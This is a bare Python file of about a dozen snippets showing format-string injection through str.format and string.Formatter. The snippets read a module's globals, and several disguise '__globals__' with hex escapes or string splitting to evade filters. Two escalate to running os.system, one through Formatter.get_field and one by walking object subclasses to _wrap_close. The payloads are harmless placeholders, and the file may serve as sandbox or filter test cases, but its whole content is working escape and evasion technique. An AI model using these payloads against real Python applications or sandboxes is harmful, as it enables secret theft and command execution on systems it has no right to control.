SECRET = "hello"
class A:
    def m(self): pass
fmt = "{0.m.__globals__[SECRET]}".format
print(fmt(A()))
# ---
SECRET = "hello"
def f(): pass
print("{0.\x5f\x5fglobals\x5f\x5f[SECRET]}".format(f))
# ---
import string
SECRET = "hello"
def f(): pass
print(string.Formatter().format("{0.__globals__[SECRET]}", f))
# ---
import string, os
f, _ = string.Formatter().get_field("0.system", (os,), {})
f("echo hello")
# ---
from string import Formatter
o = Formatter().get_field("a.__class__.__base__", (), {"a": ()})[0]
w = [c for c in o.__subclasses__() if c.__name__ == "_wrap_close"][0]
w.__init__.__globals__["system"]("echo hello")
# ---
SECRET = "hello"
def f(): pass
print("{f.__globals__[SECRET]}".format_map({"f": f}))
# ---
SECRET = "hello"
def f(): pass
print("{0:{1.__globals__[SECRET]}}".format("x", f) if 0 else "{1.__globals__[SECRET]}".format("x", f))
# ---
SECRET = "hello"
def f(): pass
name = "%s%s%s" % ("__", "globals", "__")
print(("{0.%s[SECRET]}" % name).format(f))
# ---
import os
class A:
    def __init__(self): self.s = "hello"
SECRET = "hello"
print("{0.__init__.__globals__[SECRET]}".format(A()))
# ---
SECRET = "hello"
def f(): pass
print(str.format("{.__globals__[SECRET]}", f))
# ---
SECRET = "hello"
class A:
    def m(self): pass
t = "{x.m.__glo" + "bals__[SECRET]}"
print(t.format(x=A()))
